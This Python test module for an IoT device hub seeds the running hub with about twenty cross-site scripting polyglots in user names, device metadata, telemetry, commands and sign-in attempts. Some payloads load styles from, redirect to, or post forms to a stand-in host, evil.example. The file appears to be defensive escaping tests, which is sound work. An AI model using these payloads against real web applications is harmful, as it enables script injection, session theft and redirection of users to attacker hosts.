"""Texts that would be markup, scripts or addresses if a page took them for that, and how strangers bring them in."""

from __future__ import annotations

import json
from typing import Final

import httpx

from devices import wire
from devices.values import Bad
from tests import hub
from tests.system.clients import Paho

# Each calls __xss(), or asks another host, if it is taken for anything but text.
POLYGLOTS: Final = (
    "<script>__xss()</script>",
    "<img src=x onerror=__xss()>",
    "<svg onload=__xss()><svg/onload=__xss()>",
    "\"'><svg onload=__xss()>",
    '" autofocus onfocus=__xss() x="',
    "' onpointerover=__xss() style='position:fixed;inset:0' x='",
    "javascript:__xss()",
    "</script><script>__xss()</script>",
    "<!--<script>",
    "</textarea></title></style></select></template><svg onload=__xss()>",
    "${__xss()}{{__xss()}}{{constructor.constructor('__xss()')()}}",
    "`-__xss()-`';__xss();//\\';__xss();//",
    '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=__xss()>">',
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    '<a id=page name=page href="javascript:__xss()">page</a>',
    "<style>@import'//evil.example/x';*{background:url(//evil.example/y)}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input name=attributes autofocus onfocus=__xss()>",
    "&lt;img src=x onerror=__xss()&gt;%3Cscript%3E__xss()%3C/script%3E\\u003cscript\\u003e",
)
# No name may have these, but a text may: ends of lines for a script, and what turns the direction of writing around.
LIKE_OBJECTS: Final = {name: f"a metric called {name}" for name in ("constructor", "__proto__", "toString", "length")}
LINES: Final = "\u2028__xss()\u2029</script>\r\n__xss()\u202e<img src=x onerror=__xss()>"


# How many of the devices have something to say about themselves: their model is one text, their firmware the next.
TALKATIVE: Final = len(POLYGLOTS) // 2


def planted(place: str) -> list[str]:
    """A polyglot a row, each marked with its place, so that it can be looked for."""
    return [f"{text};{place}{index}" for index, text in enumerate(POLYGLOTS)]


def names(place: str) -> list[str]:
    """Those of them that a command may be called: a slash is none, a space is none."""
    return [one for one in (text.replace("/", "\\") for text in planted(place)) if _is_name(one)]


def _is_name(text: str) -> bool:
    try:
        return bool(wire.command_name(text))
    except Bad:
        return False


# The device that says everything, and through whose connection others do.
KEY: Final = "stranger"
USER: Final = planted("user")[3]
# Each takes a third of a second, on purpose; and a chart takes its time to draw.
SIGN_INS: Final = 3
CHARTS: Final = 6
_SETTLE: Final = """
import json, os
from django.contrib.auth.models import User
from devices.models import Fleet
users, fleets, chosen, password = json.loads(os.environ["HUB_TEST"])
for name in users:
    User.objects.create_user(name, password=password if name == chosen else None, is_staff=True, is_superuser=True)
for index, name in enumerate(fleets):
    Fleet.objects.create(slug=f"fleet-{index}", name=name)
"""


class Strangers:
    """People and devices of ill will at a running hub, with all the texts that they bring in."""

    def __init__(self, demo: hub.Demo) -> None:
        """Let them in: users, fleets, and devices with names."""
        self._demo = demo
        users, fleets, named = planted("user"), planted("fleet"), planted("name")
        given = json.dumps([users, fleets, USER, hub.PASSWORD])
        demo.manage("shell", "-v", "0", "-c", _SETTLE, HUB_TEST=given)
        self._device = demo.add_device(KEY)
        for index, name in enumerate(named):
            asked = {"key": f"named-{index}", "gateway": KEY, "fleet": f"fleet-{index}", "name": name}
            demo.ask("POST", "devices/", json=asked)
        self.texts = [*users, *fleets, *named]

    def speak(self) -> list[str]:
        """Have the devices describe themselves, measure and answer; return what the device's page must show of it."""
        units, words, values = (planted(place) for place in ("unit", "word", "value"))
        numbers, measures = planted("number")[:CHARTS], planted("measure")[:CHARTS]
        commands, options, about = names("command"), planted("option"), planted("about")
        settings, kept = planted("setting"), planted("kept")
        with Paho(self._demo, self._device) as device:
            kinds = [*zip(words, units, planted("class"), strict=True), *zip(numbers, measures, words, strict=False)]
            actions = {name: {"type": "action"} for name in commands}
            choices = {"many": {"type": "enum", "options": options}, "few": {"type": "enum", "options": options[:2]}}
            text = {"say": {"type": "text"}, "set": {"type": "number", "min": 1, "max": 2, "unit": measures[0]}}
            device.said(
                "meta",
                {
                    "metrics": {name: {"unit": unit, "class": kind} for name, unit, kind in kinds},
                    "commands": actions | choices | text,
                    "settings": {name: {"type": "text", "unit": measures[0]} for name in settings},
                },
            )
            device.said("telemetry", dict.fromkeys(numbers, 1) | dict(zip(words, values, strict=True)) | LIKE_OBJECTS)
            device.said("telemetry", dict.fromkeys(numbers, 2) | {"lines": LINES})
            device.said("reported", dict(zip(settings, kept, strict=True)) | {"__proto__": LINES})
            for index, (model, firmware) in enumerate(zip(about[::2], about[1::2], strict=True)):
                device.said(f"sub/named-{index}/meta", {"model": model, "fw": firmware})
            answers = self._command(device)
        live = [*units, *measures, *numbers, *words, *values, *LIKE_OBJECTS.values(), *commands, *options, *answers]
        live += [*settings, *kept]
        self.texts += [*live, *about, *planted("class")]
        return live

    def _command(self, device: Paho) -> list[str]:
        """Give the device a command for each text, and have it answer with another."""
        arguments, answers = planted("argument"), planted("answer")
        for argument, answer in zip(arguments, answers, strict=True):
            self._demo.ask("POST", f"devices/{KEY}/commands/", json={"name": "say", "args": argument}, user=USER)
            cid = device.heard().topic.rpartition("/")[2]
            device.said(f"ack/{cid}", {"status": "error", "message": answer})
        return [*arguments, *answers]

    def err(self) -> None:
        """Have them send what nobody can take in, mark readings as bad, and fail to sign in."""
        reasons, payloads, topics, details = planted("reason"), planted("payload"), names("topic"), planted("détail")
        with Paho(self._demo, self._device) as device:
            for payload, detail in zip(payloads, details, strict=True):
                device.said("sub/named-0/telemetry", payload)
                device.said("sub/named-1/meta", {"commands": {f"{detail} ": "text"}})
            for topic in topics:
                device.said(f"sub/named-2/{topic}", "1")
        for index, reason in enumerate(reasons):
            at = 1_600_000_000_000 + index
            asked = {"from": at, "to": at + 1, "reason": reason}
            self._demo.ask("POST", f"devices/{KEY}/repairs/", json=asked, user=USER)
        self._sign_in()
        self.texts += [*reasons, *payloads, *topics, *(repr(f"{detail} ") for detail in details)]

    def _sign_in(self) -> None:
        failed = list(zip(planted("visitor"), planted("agent"), strict=True))[:SIGN_INS]
        for visitor, agent in failed:
            asked = {"username": visitor, "password": "wrong"}
            with httpx.Client(base_url=self._demo.url, headers={"User-Agent": agent}, trust_env=False) as client:
                asked["csrfmiddlewaretoken"] = client.get("/sign-in/").cookies["csrftoken"]
                client.post("/sign-in/", data=asked)
        self.texts += [text for pair in failed for text in pair]
